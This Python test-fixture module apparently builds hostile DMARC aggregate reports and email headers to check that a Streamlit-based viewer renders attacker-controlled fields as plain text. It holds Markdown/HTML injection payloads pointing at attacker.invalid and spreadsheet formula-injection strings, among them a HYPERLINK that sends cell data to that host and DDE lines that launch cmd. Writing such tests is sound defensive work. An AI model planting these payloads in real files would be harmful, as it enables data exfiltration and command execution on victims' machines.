"""Reports and headers written by an attacker, for the tests that show they stay text.

Every field a receiver (or a sender's headers) controls carries `PAYLOAD`: Markdown and HTML that a
page which interpreted it would turn into an image fetched from ATTACKER, a link to it, a colour, an
icon or a formula, plus backticks that break out of a code span. The records also carry the
spreadsheet formulas of the CSV injection finding.

    hostile_report(domain="hostile.example", day=date) -> bytes   # an aggregate report (XML)
    hostile_headers() -> str                                       # a received message's headers
"""

from __future__ import annotations

import datetime as dt
from xml.sax.saxutils import escape

ATTACKER = "attacker.invalid"

# One piece per way Markdown could come alive in Streamlit; each names MARKER (ATTACKER for the
# network), so a test that finds MARKER in something live (a link, an image, an icon, a request)
# has found an injection.
MARKER = "attacker"
PIECES = (
    f"![x](http://{ATTACKER}/image.png)",
    f"[click](http://{ATTACKER}/click)",
    # Closes the code span a page might put the value in, then an image.
    f"`` ` `![y](http://{ATTACKER}/tick.png)",
    f"<img src=http://{ATTACKER}/html.png>",
    f":red[{ATTACKER}] :material/attacker_icon: :material_attacker_icon: :attacker_emoji:",
    "$attacker^{2}$ :streamlit:attacker",
    f"www.{ATTACKER} x@{ATTACKER} https://{ATTACKER}/bare",
)
PAYLOAD = " ".join(PIECES)

# Spreadsheet formulas (records CSV): the three.
FORMULAS = (
    f'=HYPERLINK("http://{ATTACKER}/?"&A1,"click")',
    "@SUM(1+1)*cmd|' /c calc'!A0",
    "+cmd|' /C calc'!A0",
)


def _e(text: str) -> str:
    return escape(text)


def hostile_report(
    domain: str = "hostile.example",
    day: dt.date = dt.date(2026, 11, 1),
    *,
    report_id: str = "hostile-1",
    org_name: str | None = None,
) -> bytes:
    """An RFC 7489 aggregate report for `domain` on `day` whose every free field is hostile. The
    policy domain and the source addresses are real (the parser refuses others)."""
    begin = int(dt.datetime.combine(day, dt.time(), dt.UTC).timestamp())
    org = org_name if org_name is not None else f"Evil Receiver {PAYLOAD}"
    rows = [
        # A sender the domain's policy is about, signed with a hostile d= and selector.
        ("192.0.2.10", 40, "pass", "fail", FORMULAS[0], f"{PAYLOAD}", f"{FORMULAS[1]} {PAYLOAD}"),
        ("192.0.2.11", 7, "fail", "fail", FORMULAS[2], domain, PAYLOAD),
    ]
    records = "".join(
        f"""<record><row><source_ip>{ip}</source_ip><count>{count}</count>
        <policy_evaluated><disposition>none</disposition><dkim>{dkim}</dkim><spf>{spf}</spf>
        <reason><type>{_e(PAYLOAD)}</type><comment>{_e(PAYLOAD)}</comment></reason>
        </policy_evaluated></row><identifiers><envelope_from>{_e(envelope)}</envelope_from>
        <header_from>{_e(domain)}</header_from></identifiers><auth_results>
        <dkim><domain>{_e(dkim_domain)}</domain><selector>{_e(selector)}</selector>
        <result>{dkim}</result></dkim>
        <spf><domain>{_e(envelope)}</domain><result>{spf}</result></spf></auth_results></record>"""
        for ip, count, dkim, spf, envelope, dkim_domain, selector in rows
    )
    return f"""<?xml version="1.0" encoding="UTF-8"?>
<feedback><report_metadata><org_name>{_e(org)}</org_name>
<email>{_e(PAYLOAD)}</email><extra_contact_info>{_e(PAYLOAD)}</extra_contact_info>
<report_id>{_e(report_id)}</report_id>
<date_range><begin>{begin}</begin><end>{begin + 86399}</end></date_range>
<error>{_e(PAYLOAD)}</error></report_metadata>
<policy_published><domain>{_e(domain)}</domain><adkim>r</adkim><aspf>r</aspf>
<p>none`{_e(PAYLOAD)}</p><sp>{_e(PAYLOAD)}</sp><pct>100</pct><fo>{_e(PAYLOAD)}</fo>
</policy_published>{records}</feedback>
""".encode()


def hostile_headers(domain: str = "hostile.example") -> str:
    """A received message's headers whose authserv-ids (the receiver's and an ARC hop's), DKIM
    selector, From display name and subject are hostile. An authserv-id is one token, so its
    payloads have no spaces: backticks to end a code span, then an image or a link."""
    image = f"`![x](http://{ATTACKER}/authserv.png)`"
    link = f"`[click](http://{ATTACKER}/arc)`"
    return (
        # Quoted: RFC 8601 lets an authserv-id be a quoted-string, where "(" starts no comment.
        f'Authentication-Results: "mx.receiver.example{image}";\r\n'
        f" dkim=pass header.d={domain} header.s=sel{image};\r\n"
        f" spf=pass smtp.mailfrom=bounce@{domain};\r\n"
        f" dmarc=pass header.from={domain}\r\n"
        f"ARC-Seal: i=1; a=rsa-sha256; cv=none; d={domain}; s=arc; b=abc\r\n"
        f"ARC-Authentication-Results: i=1; forwarder.example{link}; spf=pass\r\n"
        f"DKIM-Signature: v=1; a=rsa-sha256; d={domain}; s=sel{image}; h=from; b=abc\r\n"
        f'From: "Evil {PIECES[1]}" <ceo@{domain}>\r\n'
        f"Subject: {PAYLOAD}\r\n"
        "To: you@receiver.example\r\n"
    )
